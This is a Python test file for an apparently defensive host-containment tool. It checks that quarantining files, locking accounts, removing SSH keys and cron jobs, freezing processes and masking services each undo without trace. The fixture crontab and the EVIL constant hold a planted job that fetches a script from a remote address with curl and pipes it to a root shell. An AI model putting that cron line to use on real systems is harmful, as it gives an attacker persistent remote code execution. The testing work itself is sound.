"""test_contain_host.py: every action on a host does what its plan says, and its undo leaves no trace, also after a kill anywhere.

In namespaces of its own, with folders in the place of the machine's: nothing of this machine is changed but groups of processes that are
made for the test and removed."""
import contextlib
import hashlib
import os
import pathlib
import random
import re
import secrets
import shutil
import signal
import stat
import struct
import subprocess
import time
import unittest

import harness
import contain_host
import contain_lab
from contain_host import ENV, Failed, Helper, Host, Plan, boot, listing, sh, states, time_is_over

WHY_NOT = contain_host.enter()
ROOTS = ("/etc", "/home", "/srv", "/var/spool")
CGROUPS = next((path for path in ("/sys/fs/cgroup", "/sys/fs/cgroup/unified") if os.path.exists(path + "/cgroup.procs")
                and sh("stat", "-f", "-c", "%T", path).strip() == "cgroup2fs"), None)
SHADOW = """root:*:19000:0:99999:7:::
ana:$y$j9T$abc$def:19700:0:99999:7:::
mallory:$6$salt$hash:19701:0:99999:7:30::
daemon:*:19000:0:99999:7:::
"""
PASSWD = """root:x:0:0:root:/root:/bin/bash
ana:x:2001:2001:Ana:/home/ana:/bin/bash
mallory:x:2002:2002::/home/mallory:/bin/sh
daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin
"""
CRONTAB = """SHELL=/bin/sh
17 * * * * root run-parts /etc/cron.hourly
*/5 * * * * root curl http://198.51.100.7/x | sh
25 6 * * * root run-parts /etc/cron.daily
"""
EVIL = "*/5 * * * * root curl http://198.51.100.7/x | sh"
LONG_AGO = 981173106123456789


def write(path, text, mode=0o644, owner=0, when=LONG_AGO):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    if os.path.lexists(path):
        sh("chattr", "-i", "-a", path, check=False)
        os.unlink(path)
    data = text if isinstance(text, bytes) else text.encode()
    pathlib.Path(path).write_bytes(data)
    os.chown(path, owner, owner)
    os.chmod(path, mode)
    os.utime(path, ns=(when + 86400 * 10**9 + 5, when))


def acl(*entries):
    """An access list as the kernel keeps it: version 2, then tag, permissions, id (linux/posix_acl_xattr.h)."""
    return struct.pack("<I", 2) + b"".join(struct.pack("<HHI", *entry) for entry in entries)


NOBODY = 0xFFFFFFFF
ACL = acl((1, 6, NOBODY), (2, 4, 2001), (4, 4, NOBODY), (16, 4, NOBODY), (32, 0, NOBODY))
# cap_net_raw=ep, as linux/capability.h has revision 2 of it
CAPABILITY = struct.pack("<IIIII", 0x02000001, 1 << 13, 0, 0, 0)


@unittest.skipIf(WHY_NOT, WHY_NOT)
class HostTest(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.host = Host()
        cls.folder = cls.host.folder

    @classmethod
    def tearDownClass(cls):
        cls.host.close()

    def setUp(self):
        # Who still watches for a test before would look, in a folder whose lock is taken away, and clear away what this one writes.
        while left := contain_lab.watchdogs() + contain_lab.keepers():
            for pid in left:
                with contextlib.suppress(ProcessLookupError):
                    os.kill(pid, signal.SIGKILL)
        shutil.rmtree(self.folder, ignore_errors=True)
        for root in ("/home", "/srv", "/var/spool"):
            sh("chattr", "-R", "-f", "-i", "-a", root, check=False)
            sh("find", root, "-mindepth", "1", "-delete")
        for name in ("cron.d", "systemd", "ssh"):
            shutil.rmtree("/etc/" + name, ignore_errors=True)
        os.makedirs("/etc/cron.d")
        write("/etc/passwd", PASSWD)
        write("/etc/shadow", SHADOW, 0o640)
        write("/etc/crontab", CRONTAB)
        write("/etc/ssh/sshd_config", "Include /etc/ssh/sshd_config.d/*.conf\nAuthorizedKeysFile .ssh/authorized_keys /etc/ssh/keys/%u\n")
        write("/etc/ssh/sshd_config.d/own.conf", "Match User mallory\n  AuthorizedKeysFile=%h/more/keys /etc/ssh/all_keys\n")
        for path in ("/etc/cron.d", "/etc/ssh", "/etc"):
            os.utime(path, ns=(LONG_AGO, LONG_AGO))
        self.maxDiff = None

    def goes_back(self, plan, roots=ROOTS, same=None):
        """Does it and undoes it; what the host was like in between, and what was kept."""
        before = listing(*roots)
        with Helper(self.folder) as helper:
            kept = helper.begin(plan)
            between = listing(*roots)
            saw = helper.order(f"check {plan.id}")
            self.assertNotEqual(before, between)
            helper.order(f"undo {plan.id}")
            helper.order(f"undo {plan.id}")  # again is right too
        self.assertEqual(listing(*roots), before)
        self.assertEqual(boot(self.folder), (0, ""))
        self.assertEqual(listing(*roots), before)
        return between, saw, kept

    def refused(self, plan, words, code="ERR_GATE"):
        before = listing(*ROOTS)
        with Helper(self.folder) as helper:
            with self.assertRaises(Failed) as failure:
                helper.prepare(plan)
        self.assertRegex(str(failure.exception), f"^{code} .*{words}")
        self.assertEqual(listing(*ROOTS), before)


class Quarantine(HostTest):
    def make(self, name, **more):
        path = "/srv/drop/" + name
        write(path, b"\x7fELF\0\xff\n" + bytes(range(256)), **more)
        return path

    def test_a_file_goes_and_comes_back_with_all_of_its_metadata(self):
        path = self.make("miner", mode=0o6755, owner=2002)
        os.setxattr(path, "user.comment", b"a\0b")
        os.setxattr(path, "user.empty", b"")
        os.setxattr(path, "trusted.mark", b"x")
        os.setxattr(path, "security.capability", CAPABILITY)
        os.utime("/srv/drop", ns=(LONG_AGO, LONG_AGO + 1))
        self.bytes_before = pathlib.Path(path).read_bytes()
        between, saw, kept = self.goes_back(Plan("quarantine", ("file", path)))
        self.assertFalse([line for line in between if "miner" in line])
        self.assertEqual(saw, [f"file {path} gone"])
        self.assertIn(b"\nmode 6755\nowner 2002\n", kept)
        self.assertIn(b"attribute user.comment a%00b\n", kept)
        self.assertIn(b"attribute user.empty \n", kept)
        self.assertEqual(len(self.bytes_before), 263)
        self.assertIn(f" 263 {hashlib.sha256(self.bytes_before).hexdigest()}\n".encode(), kept)
        self.assertRegex(kept, rb"\nkept \S+/[0-9a-f]{32}/file 263 ")

    def test_an_access_list_comes_back_and_one_that_the_folder_gives_does_not_come_along(self):
        path = self.make("listed", mode=0o640)
        os.setxattr(path, "system.posix_acl_access", ACL)
        plain = self.make("plain", mode=0o604)
        os.setxattr("/srv/drop", "system.posix_acl_default", ACL)
        self.goes_back(Plan("quarantine", ("file", path)))
        self.goes_back(Plan("quarantine", ("file", plain)))

    def test_flags_that_forbid_changes_are_lifted_and_come_back(self):
        path = self.make("held")
        sh("chattr", "+i", "+d", "+A", path)
        sh("chattr", "+a", "/srv/drop")
        self.addCleanup(sh, "chattr", "-i", "-a", "/srv/drop", check=False)
        between, _, kept = self.goes_back(Plan("quarantine", ("file", path)))
        self.assertFalse([line for line in between if "held" in line])
        self.assertTrue([line for line in between if re.match(r"\S*a\S* /srv/drop$", line)])
        self.assertRegex(kept, rb"\nflags [0-9a-f]*d0\n")  # i 0x10, d 0x40, A 0x80

    def test_a_link_goes_and_what_it_leads_to_stays(self):
        target = self.make("target")
        os.symlink(target, "/srv/drop/link")
        os.lchown("/srv/drop/link", 2002, 2001)
        os.utime("/srv/drop/link", ns=(LONG_AGO, LONG_AGO + 7), follow_symlinks=False)
        between, _, kept = self.goes_back(Plan("quarantine", ("file", "/srv/drop/link")))
        self.assertTrue([line for line in between if line.startswith("/srv/drop/target|")])
        self.assertIn(b"\ntarget /srv/drop/target\n", kept)

    def test_another_name_of_it_is_told_of_first(self):
        path = self.make("one")
        os.link(path, "/srv/drop/two")
        with Helper(self.folder) as helper:
            self.assertEqual(helper.preview(Plan("quarantine", ("file", path))), [f"warn links 2 {path}", f"file {path} gone", f"copy {path} 263"])

    def test_what_is_no_file_or_lies_behind_a_link_is_refused(self):
        os.makedirs("/srv/drop")
        os.mkfifo("/srv/drop/fifo")
        os.symlink("/etc", "/srv/drop/etc")
        self.refused(Plan("quarantine", ("file", "/srv/drop/fifo")), "fifo", "ERR_USAGE")
        self.refused(Plan("quarantine", ("file", "/srv/drop")), "folder", "ERR_USAGE")
        self.refused(Plan("quarantine", ("file", "/srv/drop/etc/shadow")), "symbolic link", "ERR_USAGE")
        self.refused(Plan("quarantine", ("file", "/srv/drop/none")), "is not there", "ERR_NOTFOUND")

    def test_what_somebody_put_there_since_is_not_touched(self):
        path = self.make("miner")
        plan = Plan("quarantine", ("file", path))
        before = listing("/srv")
        with Helper(self.folder) as helper:
            helper.begin(plan)
            write(path, "mine")
            with self.assertRaises(Failed) as failure:
                helper.order(f"undo {plan.id}")
            self.assertRegex(str(failure.exception), f"^ERR_CONFLICT {path} .*somebody else changed it.*Move it away")
            self.assertEqual(pathlib.Path(path).read_text(), "mine")
            self.assertEqual(states(self.folder)[plan.id], "undoing")
            os.unlink(path)
            helper.order(f"undo {plan.id}")
        self.assertEqual([line for line in listing("/srv") if "miner" in line], [line for line in before if "miner" in line])

    def test_what_changed_between_preparing_and_going_is_not_taken(self):
        path = self.make("miner")
        plan = Plan("quarantine", ("file", path))
        with Helper(self.folder) as helper:
            helper.prepare(plan)
            write(path, "other")
            with self.assertRaises(Failed) as failure:
                helper.order(f"go {plan.id} 0")
        self.assertRegex(str(failure.exception), "^ERR_CONFLICT ")
        self.assertEqual(pathlib.Path(path).read_text(), "other")

    def test_the_time_of_a_folder_stays_where_somebody_else_changed_it(self):
        path = self.make("miner")
        plan = Plan("quarantine", ("file", path))
        with Helper(self.folder) as helper:
            helper.begin(plan)
            write("/srv/drop/new", "new")
            helper.order(f"undo {plan.id}")
        self.assertLess(time.time() - os.stat("/srv/drop").st_mtime, 60)


class Lock(HostTest):
    LOCKED = "mallory:!$6$salt$hash:19701:0:99999:7:30:1:"

    def test_an_account_is_locked_and_comes_back(self):
        before = pathlib.Path("/etc/shadow").read_bytes()
        plan = Plan("lock", ("user", "mallory"))
        between, saw, kept = self.goes_back(plan)
        self.assertEqual(saw, ["user mallory locked"])
        self.assertNotIn(b"$y$j9T$abc$def", kept)  # of another
        self.assertEqual(pathlib.Path("/etc/shadow").read_bytes(), before)
        with Helper(self.folder) as helper:
            plan = Plan("lock", ("user", "mallory"))
            helper.begin(plan)
            self.assertEqual(pathlib.Path("/etc/shadow").read_text(),
                             SHADOW.replace("mallory:$6$salt$hash:19701:0:99999:7:30::", self.LOCKED))
            # passwd(1) and chage(1) say that it is so: L is locked, and day 1 is 2 January 1970.
            self.assertEqual(sh("passwd", "-S", "mallory").split()[1], "L")
            self.assertRegex(sh("chage", "-l", "mallory"), r"Account expires\s*: Jan 02, 1970")
            helper.order(f"undo {plan.id}")

    def test_what_others_changed_in_the_file_since_stays(self):
        plan = Plan("lock", ("user", "mallory"))
        with Helper(self.folder) as helper:
            helper.begin(plan)
            path = pathlib.Path("/etc/shadow")
            path.write_text(path.read_text().replace("19700", "20000") + "new:*:20000::::::\n")
            helper.order(f"undo {plan.id}")
        self.assertEqual(path.read_text(), SHADOW.replace("19700", "20000") + "new:*:20000::::::\n")

    def test_a_line_that_somebody_changed_since_is_not_touched(self):
        plan = Plan("lock", ("user", "mallory"))
        path = pathlib.Path("/etc/shadow")
        with Helper(self.folder) as helper:
            helper.begin(plan)
            changed = path.read_text().replace("!$6$salt$hash", "$6$other$one")
            path.write_text(changed)
            with self.assertRaises(Failed) as failure:
                helper.order(f"undo {plan.id}")
            self.assertRegex(str(failure.exception), "^ERR_CONFLICT .*\"mallory\"")
            self.assertEqual(path.read_text(), changed)

    def test_it_waits_for_others_who_change_accounts(self):
        plan = Plan("lock", ("user", "mallory"))
        holder = subprocess.Popen(["/usr/bin/python3", "-c", "import fcntl,sys,time\nf=open('/etc/.pwd.lock','w')\n"
                                   "fcntl.lockf(f,fcntl.LOCK_EX)\nprint('held',flush=True)\ntime.sleep(1)\n"], stdout=subprocess.PIPE)
        holder.stdout.readline()
        with Helper(self.folder) as helper:
            start = time.monotonic()
            helper.begin(plan)
            self.assertGreater(time.monotonic() - start, 0.5)
            helper.order(f"undo {plan.id}")
        holder.wait()
        holder.stdout.close()

    def test_ones_own_account_and_none_are_refused(self):
        self.refused(Plan("lock", ("user", "root")), "you work through the account \"root\"")
        self.refused(Plan("lock", ("user", "nobody")), "no account \"nobody\"", "ERR_NOTFOUND")


class Keys(HostTest):
    def setUp(self):
        super().setUp()
        for path in ("/home/mallory/.ssh/authorized_keys", "/home/mallory/.ssh/authorized_keys2", "/home/mallory/more/keys"):
            write(path, f"ssh-ed25519 AAAA {path}\n", 0o600, 2002)
        write("/etc/ssh/keys/mallory", "ssh-rsa AAAA\n")
        write("/etc/ssh/keys/ana", "ssh-rsa BBBB\n")
        write("/etc/ssh/all_keys", "ssh-rsa CCCC\n")
        write("/home/ana/.ssh/authorized_keys", "ssh-rsa DDDD\n", 0o600, 2001)
        for path in ("/home/mallory/.ssh", "/etc/ssh/keys"):
            os.utime(path, ns=(LONG_AGO, LONG_AGO + 3))

    def test_all_files_of_keys_go_and_come_back(self):
        sh("chattr", "+i", "/home/mallory/.ssh/authorized_keys")
        plan = Plan("keys", ("user", "mallory"))
        with Helper(self.folder) as helper:
            shown = helper.preview(plan)
        self.assertEqual(sorted(shown), sorted(["warn keys-shared /etc/ssh/all_keys"] + [f"file {path} gone" for path in (
            "/home/mallory/.ssh/authorized_keys", "/home/mallory/.ssh/authorized_keys2", "/home/mallory/more/keys",
            "/etc/ssh/keys/mallory")]))
        between, _, _ = self.goes_back(plan)
        left = [line.split("|")[0] for line in between if "|regular" in line and ("keys" in line)]
        self.assertEqual(left, ["/etc/ssh/all_keys", "/etc/ssh/keys/ana", "/home/ana/.ssh/authorized_keys"])

    def test_a_folder_that_is_a_link_is_itself_taken_away(self):
        shutil.move("/home/mallory/.ssh", "/home/mallory/dot")
        os.symlink("dot", "/home/mallory/.ssh")
        between, _, _ = self.goes_back(Plan("keys", ("user", "mallory")))
        self.assertFalse([line for line in between if line.startswith("/home/mallory/.ssh|")])
        self.assertTrue([line for line in between if line.startswith("/home/mallory/dot/authorized_keys|")])


class Job(HostTest):
    def test_a_line_goes_and_the_file_is_the_same_otherwise(self):
        between, _, _ = self.goes_back(Plan("job", ("file", "/etc/crontab"), ("line", EVIL)))
        with Helper(self.folder) as helper:
            plan = Plan("job", ("file", "/etc/crontab"), ("line", EVIL))
            helper.begin(plan)
            self.assertEqual(pathlib.Path("/etc/crontab").read_text(), CRONTAB.replace(EVIL + "\n", ""))
            helper.order(f"undo {plan.id}")

    def test_lines_at_any_place_come_back_where_they_were(self):
        for text in ("X\na\nb\n", "a\nX\nb\n", "a\nb\nX\n", "a\nb\nX", "X", "X\n", "a\nX\nX\nb\nX", "X\na\nX\na\nX\n", "\nX\n\n", "a\nX\nb"):
            with self.subTest(text=text):
                write("/var/spool/cron/crontabs/mallory", text, 0o600, 2002)
                os.utime("/var/spool/cron/crontabs", ns=(LONG_AGO, LONG_AGO))
                plan = Plan("job", ("file", "/var/spool/cron/crontabs/mallory"), ("line", "X"))
                self.goes_back(plan)

    def test_what_others_changed_since_stays_and_the_line_goes_where_it_belongs(self):
        table = pathlib.Path("/etc/crontab")
        for change, wanted in (
                (lambda t: "# new\n" + t, "# new\n" + CRONTAB),
                (lambda t: t + "# new\n", CRONTAB + "# new\n"),
                (lambda t: t.replace("25 6", "35 7"), CRONTAB.replace("25 6", "35 7")),
                (lambda t: t.replace("SHELL=/bin/sh\n", ""), CRONTAB.replace("SHELL=/bin/sh\n", ""))):
            write("/etc/crontab", CRONTAB)
            plan = Plan("job", ("file", "/etc/crontab"), ("line", EVIL))
            with Helper(self.folder) as helper:
                helper.begin(plan)
                table.write_text(change(table.read_text()))
                helper.order(f"undo {plan.id}")
            self.assertEqual(table.read_text(), wanted)

    def test_a_line_that_somebody_put_back_is_not_put_back_twice(self):
        plan = Plan("job", ("file", "/etc/crontab"), ("line", EVIL))
        with Helper(self.folder) as helper:
            helper.begin(plan)
            pathlib.Path("/etc/crontab").write_text(CRONTAB + "# mine\n")
            helper.order(f"undo {plan.id}")
        self.assertEqual(pathlib.Path("/etc/crontab").read_text(), CRONTAB + "# mine\n")

    def test_a_whole_file_goes_and_comes_back(self):
        write("/etc/cron.d/evil", EVIL + "\n", 0o600)
        os.utime("/etc/cron.d", ns=(LONG_AGO, LONG_AGO + 9))
        between, _, _ = self.goes_back(Plan("job", ("file", "/etc/cron.d/evil")))
        self.assertFalse([line for line in between if "cron.d/evil" in line])

    def test_what_is_no_table_and_a_line_that_is_not_there_are_refused(self):
        self.refused(Plan("job", ("file", "/etc/shadow"), ("line", "x")), "none of the places")
        self.refused(Plan("job", ("file", "/etc/cron.d/../shadow")), "", "ERR_FORMAT")
        self.refused(Plan("job", ("file", "/etc/crontab"), ("line", "nothing")), "no line of it", "ERR_NOTFOUND")


def process_start(pid):
    return pathlib.Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[19]


def state_of(pid):
    try:
        return pathlib.Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
    except (FileNotFoundError, ProcessLookupError):
        return "-"


class Tree:
    """A process that starts others: a child, one that begins a session and another in it that has lost its parent, and new ones all the time. Each adds a
    byte to a file every few milliseconds."""

    PROGRAM = """
import os, sys, time
out = os.open(sys.argv[1], os.O_WRONLY | os.O_APPEND | os.O_CREAT)
def tick():
    while True:
        os.write(out, b"x")
        time.sleep(0.002)
if os.fork() == 0:
    tick()
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        if os.fork() == 0:
            tick()
        os._exit(0)
    os.wait()
    tick()
os.write(out, b"x")
while True:
    if os.fork() == 0:
        os.write(out, b"x")
        time.sleep(0.05)
        os._exit(0)
    time.sleep(0.01)
    try:
        while os.waitpid(-1, os.WNOHANG)[0]:
            pass
    except ChildProcessError:
        pass
"""

    def __init__(self, group=None, uid=0):
        self.file = contain_host.tempfile.mktemp(prefix="calm-test-ticks-", dir="/run")
        pathlib.Path(self.file).write_bytes(b"")
        os.chmod(self.file, 0o666)

        def enter():
            if group:
                pathlib.Path(group + "/cgroup.procs").write_text("0")
            os.setsid()
            if uid:
                os.setresuid(uid, uid, uid)
        self.process = subprocess.Popen(["/usr/bin/python3", "-c", self.PROGRAM, self.file], preexec_fn=enter, env=ENV)
        self.pid = self.process.pid
        while os.stat(self.file).st_size < 20:
            time.sleep(0.01)

    def all(self):
        """Of its session, or of one that began in it."""
        pids = []
        for name in os.listdir("/proc"):
            if name.isdigit():
                try:
                    line = pathlib.Path(f"/proc/{name}/cmdline").read_bytes()
                except (FileNotFoundError, ProcessLookupError):
                    continue
                if self.file.encode() in line and state_of(name) not in "Z-":
                    pids.append(int(name))
        return pids

    def moves(self):
        size = os.stat(self.file).st_size
        time.sleep(0.25)
        return os.stat(self.file).st_size != size

    def end(self):
        for _ in range(50):
            for pid in self.all():
                try:
                    os.kill(pid, signal.SIGKILL)
                except ProcessLookupError:
                    pass
        self.process.wait()
        while True:  # those that have lost their parent came to us
            try:
                if os.waitpid(-1, os.WNOHANG)[0] == 0:
                    break
            except ChildProcessError:
                break


def make_group(test):
    """A group of its own, where the machine has cgroup v2."""
    if not CGROUPS:
        test.skipTest("this machine has no cgroup v2")
    path = f"{CGROUPS}/calm-test-{secrets.token_hex(8)}"
    os.mkdir(path)
    test.addCleanup(remove_group, path)
    return path


def remove_group(path):
    for _ in range(100):
        try:
            for name in [name for name in os.listdir(path) if os.path.isdir(f"{path}/{name}")] + [""]:
                os.rmdir(f"{path}/{name}")
            return
        except OSError:
            time.sleep(0.02)


class Processes(HostTest):
    def tree(self, group=None, uid=0):
        tree = Tree(group, uid)
        self.addCleanup(tree.end)
        return tree

    @staticmethod
    def plan(action, tree, **more):
        return Plan(action, ("pid", tree.pid), ("start", process_start(tree.pid)), **more)

    def test_a_tree_stands_still_and_goes_on_in_the_groups_where_it_was(self):
        one, two = make_group(self), make_group(self)
        tree, other = self.tree(one), self.tree(two)
        child = next(pid for pid in tree.all() if pid != tree.pid and state_of(pid) != "Z")
        pathlib.Path(two + "/cgroup.procs").write_text(str(child))
        plan = self.plan("freeze", tree)
        with Helper(self.folder) as helper:
            self.assertIn(f"process {tree.pid} python3 frozen", helper.preview(plan))
            kept = helper.begin(plan)
            self.assertFalse(tree.moves())
            self.assertTrue(other.moves())
            for group in (one, two):
                self.assertIn("frozen 1", pathlib.Path(f"{group}/calm-contain-{plan.id}/cgroup.events").read_text())
            self.assertEqual(pathlib.Path(one + "/cgroup.procs").read_text(), "")
            self.assertIn(f"process {tree.pid} {process_start(tree.pid)} ran python3\n".encode(), kept)
            helper.order(f"check {plan.id}")
            helper.order(f"undo {plan.id}")
            helper.order(f"undo {plan.id}")
        self.assertTrue(tree.moves())
        self.assertIn(str(tree.pid), pathlib.Path(one + "/cgroup.procs").read_text().split())
        self.assertIn(str(child), pathlib.Path(two + "/cgroup.procs").read_text().split())
        self.assertEqual([name for name in os.listdir(one) + os.listdir(two) if name.startswith("calm")], [])

    def test_without_groups_it_stands_still_by_signals(self):
        tree, stood = self.tree(), None
        stood = next(pid for pid in tree.all() if pid != tree.pid and pathlib.Path(f"/proc/{pid}/stat").read_text().split()[5] != str(tree.pid))
        os.kill(stood, signal.SIGSTOP)
        sh("mount", "-t", "tmpfs", "none", "/sys/fs/cgroup")
        self.addCleanup(sh, "umount", "/sys/fs/cgroup")
        plan = self.plan("freeze", tree)
        with Helper(self.folder) as helper:
            kept = helper.begin(plan)
            self.assertIn(b"\nby signal\n", kept)
            self.assertRegex(kept, f"process {stood} [0-9]+ stood ".encode())
            self.assertFalse(tree.moves())
            self.assertEqual({state_of(pid) for pid in tree.all()}, {"T"})
            helper.order(f"undo {plan.id}")
        self.assertTrue(tree.moves())
        self.assertEqual([pid for pid in tree.all() if state_of(pid) == "T"], [stood])

    def test_a_tree_is_ended_also_one_that_stands_still(self):
        group = make_group(self)
        tree = self.tree(group)
        frozen = self.plan("freeze", tree)
        plan = self.plan("end", tree, accept=True)
        with Helper(self.folder) as helper:
            helper.begin(frozen)
            kept = helper.begin(plan)
            self.assertEqual(tree.all(), [])
            told = re.findall(rb"process (\d+) \d+ \w+ (\S+)\n", kept)
            self.assertGreaterEqual(len(told), 3)
            self.assertEqual(helper.order(f"check {plan.id}"), [f"process {pid.decode()} {name.decode()} ended" for pid, name in told])
            self.assertEqual(states(self.folder)[plan.id], "confirmed")
            with self.assertRaises(Failed) as failure:
                helper.order(f"undo {plan.id}")
            self.assertRegex(str(failure.exception), "^ERR_GATE it cannot be undone")
            helper.order(f"forget {plan.id}")
            helper.order(f"undo {frozen.id}")
        self.assertEqual([name for name in os.listdir(group) if name.startswith("calm")], [])

    def test_what_cannot_be_undone_needs_a_word_for_it(self):
        tree = self.tree()
        self.refused(self.plan("end", tree), "lacks \"accept-no-undo\"")
        self.refused(self.plan("end", tree, accept=True, timer=60), "cannot be undone does not go back by itself", "ERR_FORMAT")
        self.refused(self.plan("freeze", tree, accept=True), "only a plan of what cannot be undone", "ERR_FORMAT")
        self.assertTrue(tree.moves())

    def test_a_user_is_logged_out_everywhere(self):
        trees = [self.tree(uid=2002), self.tree(make_group(self) if CGROUPS else None, uid=2002)]
        other = self.tree(uid=2001)
        plan = Plan("log-out", ("user", "mallory"), accept=True)
        with Helper(self.folder) as helper:
            helper.begin(plan)
        self.assertEqual([tree.all() for tree in trees], [[], []])
        self.assertTrue(other.moves())

    def test_what_must_not_stand_still_is_refused(self):
        self.refused(Plan("freeze", ("pid", os.getpid()), ("start", process_start(os.getpid()))), "", "ERR_FORMAT" if os.getpid() == 1 else "ERR_GATE")
        shell = subprocess.Popen(["/usr/bin/python3", "-c", "import subprocess,sys\n"
                                  "sys.exit(subprocess.call(sys.argv[1:]))", contain_host.CONTAIN, "serve", "--folder", self.folder],
                                 stdin=subprocess.PIPE, stdout=subprocess.PIPE, env=ENV)
        plan = Plan("freeze", ("pid", shell.pid), ("start", process_start(shell.pid)))
        out, _ = shell.communicate(f"prepare {len(plan.text)} {plan.digest}\n".encode() + plan.text)
        self.assertRegex(out.decode(), rf"^failed ERR_GATE process {shell.pid} \(python3\) is one that you work through")
        self.refused(Plan("log-out", ("user", "root"), accept=True), "cannot be logged out")
        tree = self.tree()
        self.refused(Plan("freeze", ("pid", tree.pid), ("start", int(process_start(tree.pid)) + 1)), "has ended", "ERR_NOTFOUND")

    def test_a_watchdog_is_refused(self):
        write("/srv/bait", "x")
        bait = Plan("quarantine", ("file", "/srv/bait"), timer=600)
        with Helper(self.folder) as helper:
            helper.begin(bait)
            dog = next(int(name) for name in os.listdir("/proc") if name.isdigit() and pathlib.Path(f"/proc/{name}/cmdline").exists() and
                       pathlib.Path(f"/proc/{name}/cmdline").read_bytes().startswith(b"calm-contain-watchdog\0"))
            with self.assertRaises(Failed) as failure:
                helper.prepare(Plan("freeze", ("pid", dog), ("start", process_start(dog))))
            self.assertRegex(str(failure.exception), "is a watchdog")
            helper.order(f"undo {bait.id}")


SYSTEMCTL = '''#!/usr/bin/python3
"""Stands for systemctl where no systemd runs: what is active lies in /run/fake, what is masked is what lay there at the last reload."""
import os, sys
words = [w for w in sys.argv[1:] if not w.startswith("--")]
unit = words[-1]
active, masked = "/run/fake/active-" + unit, "/run/fake/masked-" + unit
def is_masked(name):
    path = "/etc/systemd/system/" + name
    return os.path.islink(path) and os.readlink(path) == "/dev/null"
if words[0] == "show":
    print("ActiveState=" + ("active" if os.path.exists(active) else "inactive"))
    print("UnitFileState=enabled")
    print("LoadState=" + ("masked" if os.path.exists(masked) else "loaded"))
    print("Id=" + unit)
elif words[0] == "daemon-reload":
    for name in os.listdir("/run/fake"):
        if name.startswith("masked-"):
            os.unlink("/run/fake/" + name)
    for name in os.listdir("/etc/systemd/system"):
        if is_masked(name):
            open("/run/fake/masked-" + name, "w").close()
elif words[0] == "stop":
    if os.path.exists(active):
        os.unlink(active)
elif words[0] == "start":
    if os.path.exists(masked):
        sys.exit("Unit " + unit + " is masked.")
    open(active, "w").close()
elif words[0] == "is-system-running":
    print("running")
else:
    sys.exit("unknown: " + words[0])
'''


class FakeSystemd(HostTest):
    """systemctl is ours here: these tests are of what calm-contain asks of it and of the files."""

    UNIT = "/etc/systemd/system/evil.service"

    def setUp(self):
        super().setUp()
        for path in ("/run/systemd/system", "/run/fake", "/etc/systemd/system/multi-user.target.wants"):
            os.makedirs(path, exist_ok=True)
        self.addCleanup(shutil.rmtree, "/run/systemd")
        self.addCleanup(shutil.rmtree, "/run/fake")
        self.addCleanup(shutil.rmtree, "/etc/systemd")
        write("/srv/systemctl", SYSTEMCTL, 0o755)
        sh("mount", "--bind", "/srv/systemctl", "/usr/bin/systemctl")
        self.addCleanup(sh, "umount", "/usr/bin/systemctl")
        for path in ("/etc/systemd", "/etc/systemd/system"):
            os.utime(path, ns=(LONG_AGO, LONG_AGO + 2))


class Unit(FakeSystemd):
    def test_a_unit_is_stopped_and_masked_whatever_lay_there(self):
        unit = self.UNIT
        for prepare in (lambda: None, lambda: write(unit, "[Service]\nExecStart=/bin/evil\n", 0o640), lambda: os.symlink("/lib/evil", unit)):
            for is_active in (True, False):
                if os.path.lexists(unit):
                    os.unlink(unit)
                prepare()
                pathlib.Path("/run/fake/active-evil.service").write_bytes(b"") if is_active else None
                os.utime("/etc/systemd/system", ns=(LONG_AGO, LONG_AGO + 2))
                plan = Plan("unit", ("unit", "evil.service"))
                before = listing(*ROOTS)
                with Helper(self.folder) as helper:
                    helper.begin(plan)
                    self.assertEqual(os.readlink(unit), "/dev/null")
                    self.assertEqual(os.path.exists("/run/fake/active-evil.service"), False)
                    self.assertEqual(helper.order(f"check {plan.id}"), ["unit evil.service stopped", "unit evil.service masked"])
                    helper.order(f"undo {plan.id}")
                self.assertEqual(listing(*ROOTS), before)
                self.assertEqual(os.path.exists("/run/fake/active-evil.service"), is_active)
                self.assertFalse(os.path.exists("/run/fake/masked-evil.service"))
                if is_active:
                    os.unlink("/run/fake/active-evil.service")

    def test_what_is_no_such_unit_is_refused(self):
        self.refused(Plan("unit", ("unit", "multi-user.target")), "only a service")
        self.refused(Plan("unit", ("unit", "--now.service")), "")


class Start(FakeSystemd):
    def test_the_unit_for_the_start_comes_behind_a_packet_filter_that_begins_with_flush_ruleset(self):
        # Debian's /etc/nftables.conf does. Others have nftables.service behind sysinit.target, so ours cannot be before that.
        with Helper(self.folder) as helper:
            helper.begin(Plan("unit", ("unit", "evil.service")))
        lines = pathlib.Path("/etc/systemd/system/calm-contain.service").read_text().splitlines()
        said = {name: [word for line in lines if line.startswith(name + "=") for word in line[len(name) + 1:].split()] for name in ("After", "Before", "Wants")}
        self.assertIn("nftables.service", said["After"])
        self.assertEqual((said["Before"], said["Wants"]), (["network-pre.target"], ["network-pre.target"]))


class Watchdogs(FakeSystemd):
    def test_what_nobody_confirms_goes_back_by_itself(self):
        write(self.UNIT, "[Service]\n")
        pathlib.Path("/run/fake/active-evil.service").write_bytes(b"")
        for path in ("/etc/systemd/system", "/etc", "/etc/cron.d"):
            os.utime(path, ns=(LONG_AGO, LONG_AGO + 4))
        tree = Tree(make_group(self) if CGROUPS else None)
        self.addCleanup(tree.end)
        before = listing(*ROOTS)
        with Helper(self.folder) as helper:
            for plan in (Plan("unit", ("unit", "evil.service"), timer=10), Plan("lock", ("user", "mallory"), timer=10),
                         Plan("freeze", ("pid", tree.pid), ("start", process_start(tree.pid)), timer=10)):
                helper.begin(plan)
            helper.process.kill()
        self.assertFalse(tree.moves())
        until = time.monotonic() + 13
        while time.monotonic() < until and set(states(self.folder).values()) != {"undone"}:
            time.sleep(0.1)
        self.assertEqual(set(states(self.folder).values()), {"undone"})
        self.assertTrue(tree.moves())
        self.assertTrue(os.path.exists("/run/fake/active-evil.service"))
        self.assertEqual(boot(self.folder), (0, ""))  # takes the hook for a restart away
        self.assertEqual(listing(*ROOTS), before)


def network():
    shown = []
    for family in ("-4", "-6"):
        shown += sh("ip", family, "-d", "addr").splitlines()
        shown += sorted(sh("ip", family, "-d", "route", "show", "table", "all").splitlines())
        shown += sorted(sh("ip", family, "neigh", "show", "nud", "permanent").splitlines())
        shown += sorted(sh("ip", family, "neigh", "show", "proxy").splitlines())
    shown += sh("ip", "-d", "link").splitlines()
